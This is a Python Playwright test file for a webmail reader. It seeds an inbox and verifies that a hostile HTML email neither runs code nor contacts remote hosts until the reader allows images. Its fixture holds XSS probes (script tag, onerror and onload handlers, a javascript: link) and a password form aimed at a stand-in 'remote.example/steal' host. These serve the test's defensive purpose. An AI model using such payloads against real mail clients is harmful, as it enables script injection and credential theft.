"""Reading mail in a real browser: the list, then a hostile HTML message that must not run
anything or reach any remote host until the reader asks for images.

Every request the page makes is intercepted (Playwright routing): one for a host other
than the test server is recorded, and answered with a tiny image only after "Show images".
Screenshots: /tmp/tributary-mail-list.png, /tmp/tributary-mail-message.png,
/tmp/tributary-mail-images.png.
"""

from __future__ import annotations

import asyncio
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Dialog, Page, Route, expect

from service.config import Settings
from service.persistence.database import Database
from service.persistence.mailstore import deliver, folder_by_path
from service.usecases.users import add_user
from tests.test_reading_render import PNG, html_message, with_attachments

pytestmark = [pytest.mark.browser, pytest.mark.parametrize("settings", ["sqlite"], indirect=True)]

EMAIL = "reader@example.test"
PASSWORD = "correct horse battery staple"
HOSTILE = """<div style="font-family: Georgia, serif; max-width: 560px">
<h1 style="color: #1f6feb">Spring news</h1>
<p>Dear reader, <b>this message</b> tries everything it can.</p>
<script>alert('script')</script>
<img src="https://remote.example/pixel.png" onerror="alert('onerror')" alt="remote picture" width="120" height="40">
<img src="x" onerror="alert('relative onerror')">
<img src="cid:logo@example.test" alt="logo" width="32" height="32">
<p><a href="javascript:alert('link')">Click me</a> · <a href="https://good.example/">A fine link</a></p>
<svg onload="alert('svg')"><circle r="5"></circle></svg>
<form action="https://remote.example/steal"><input name="password" placeholder="Password"></form>
<p style="background: url(https://remote.example/bg.png); padding: 8px">Styled paragraph</p>
</div>"""
SENDERS = [
    ("Grace Hopper", "grace@navy.example", "Compiler notes for Monday"),
    ("Alan Turing", "alan@bletchley.example", "Re: the imitation game"),
    ("Ada Lovelace", "ada@engine.example", "Notes on the Analytical Engine"),
    ("Linus T.", "linus@kernel.example", "[PATCH] fix a typo in the README"),
    ("Barbara Liskov", "barbara@mit.example", "Substitution, once more"),
    ("Ken Thompson", "ken@bell.example", "Reflections on trusting trust"),
    ("Margaret Hamilton", "margaret@apollo.example", "Priority displays"),
]


def _plain(name: str, address: str, subject: str, when: datetime) -> bytes:
    return (
        f"From: {name} <{address}>\r\nTo: {EMAIL}\r\nSubject: {subject}\r\n"
        f"Date: {format_datetime(when)}\r\nMessage-ID: <{abs(hash(subject))}@example.test>\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n\r\nHello,\r\n\r\nshort note about it.\r\n"
    ).encode()


async def _seed(settings: Settings) -> int:
    """A reader with a few folders, ordinary mail, and the hostile HTML message on top; its id."""
    db = Database(settings)
    try:
        user = await add_user(db=db, email=EMAIL, password=PASSWORD, display_name="Rita Reader")
        now = datetime.now(UTC)
        async with db.write() as session:
            for path in ("Archive/2024", "Projects"):
                await folder_by_path(session, user.id, path)
            inbox = await folder_by_path(session, user.id, "Inbox")
            assert inbox.id is not None
            for n, (name, address, subject) in enumerate(SENDERS):
                when = now - timedelta(hours=3 * n + 1)
                await deliver(
                    session, user_id=user.id, folder_id=inbox.id, raw=_plain(name, address, subject, when), seen=n > 2
                )
            await deliver(session, user_id=user.id, folder_id=inbox.id, raw=with_attachments(), seen=True)
            hostile = await deliver(
                session, user_id=user.id, folder_id=inbox.id, raw=html_message(HOSTILE, subject="Spring news")
            )
        assert hostile.id is not None
        return hostile.id
    finally:
        await db.dispose()


def _sign_in(page: Page) -> None:
    page.goto("/login")
    page.get_by_label("Email address").fill(EMAIL)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()


def test_hostile_html_runs_nothing_and_reaches_no_remote_host(
    live_server: str, browser: Browser, settings: Settings
) -> None:
    # Playwright's sync API runs an event loop in this thread: seed from another one.
    with ThreadPoolExecutor(max_workers=1) as pool:
        message_id = pool.submit(asyncio.run, _seed(settings)).result()
    context = browser.new_context(base_url=live_server, viewport={"width": 1280, "height": 860})
    remote: list[str] = []
    images_allowed = False

    def intercept(route: Route) -> None:
        if urlsplit(route.request.url).hostname == "127.0.0.1":
            route.continue_()
            return
        remote.append(route.request.url)
        if images_allowed:
            route.fulfill(status=200, content_type="image/png", body=PNG)
        else:
            route.abort()

    context.route("**/*", intercept)
    page = context.new_page()
    dialogs: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    problems: list[str] = []
    page.on("console", lambda message: problems.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: problems.append(str(error)))
    inline_images: list[int] = []
    page.on("response", lambda r: inline_images.append(r.status) if "/mail/inline/" in r.url else None)

    _sign_in(page)
    expect(page).to_have_url(f"{live_server}/")
    folders = page.get_by_role("navigation", name="Folders")
    expect(folders.get_by_role("link", name="Inbox")).to_contain_text("4")
    expect(folders.get_by_role("link", name="2024")).to_be_visible()
    expect(page.get_by_role("heading", name="Inbox")).to_be_visible()
    expect(page.get_by_role("link", name="Spring news")).to_be_visible()
    expect(page.locator("tr.message-row")).to_have_count(len(SENDERS) + 2)
    page.screenshot(path="/tmp/tributary-mail-list.png", full_page=True)

    page.get_by_role("link", name="Spring news").click()
    expect(page).to_have_url(f"{live_server}/mail/messages/{message_id}")
    expect(page.get_by_role("heading", name="Spring news")).to_be_visible()
    expect(page.get_by_text("Remote images are hidden.")).to_be_visible()
    frame = page.frame_locator("iframe.message-frame")
    expect(frame.get_by_text("this message")).to_be_visible()
    expect(frame.get_by_role("link", name="A fine link")).to_have_attribute("href", "https://good.example/")
    expect(frame.locator("img[alt=logo]")).to_be_visible()
    expect(frame.locator("form, input, script, svg")).to_have_count(0)
    frame.get_by_text("Click me").click()  # the javascript: link lost its href: nothing happens
    expect(folders.get_by_role("link", name="Inbox")).to_contain_text("3")  # opening it marked it read
    page.wait_for_timeout(300)
    page.screenshot(path="/tmp/tributary-mail-message.png", full_page=True)
    assert dialogs == []
    assert remote == []
    assert inline_images == [200]  # the cid: image, by signed link, from the cookieless sandboxed frame

    images_allowed = True
    page.get_by_role("link", name="Show images").click()
    expect(page.get_by_text("Remote images are hidden.")).to_have_count(0)
    expect(page.locator("iframe.message-frame")).to_have_attribute("src", f"/mail/messages/{message_id}/body?images=1")
    expect(page.frame_locator("iframe.message-frame").locator("img[alt='remote picture']")).to_be_visible()
    page.wait_for_timeout(300)
    page.screenshot(path="/tmp/tributary-mail-images.png", full_page=True)
    assert remote == ["https://remote.example/pixel.png"]  # the image only: never the CSS background
    assert dialogs == []

    # Back to the list; actions post the selection and htmx swaps the layout in place.
    page.locator(".message-toolbar").get_by_role("link", name="Inbox").click()
    expect(page).to_have_url(f"{live_server}/mail/folders/{inbox_id(page)}")
    page.evaluate("window.notReloaded = true")
    page.get_by_label("Select “Compiler notes for Monday”").check()
    page.get_by_label("Select “Re: the imitation game”").check()
    page.get_by_role("button", name="Mark read").click()
    expect(page.get_by_role("status")).to_have_text("2 messages marked as read.")
    expect(folders.get_by_role("link", name="Inbox")).to_contain_text("1")
    page.get_by_label("Select “Files für dich”").check()
    page.get_by_label("Move to folder").select_option(label="Archive")
    page.get_by_role("button", name="Move", exact=True).click()
    expect(page.get_by_role("status")).to_have_text("1 message moved to Archive.")
    expect(page.locator("tr.message-row")).to_have_count(len(SENDERS) + 1)
    assert page.evaluate("window.notReloaded === true"), "the action reloaded the page instead of swapping it"
    assert problems == []
    context.close()


def inbox_id(page: Page) -> str:
    href = page.get_by_role("navigation", name="Folders").get_by_role("link", name="Inbox").get_attribute("href")
    assert href is not None
    return href.rsplit("/", 1)[1]
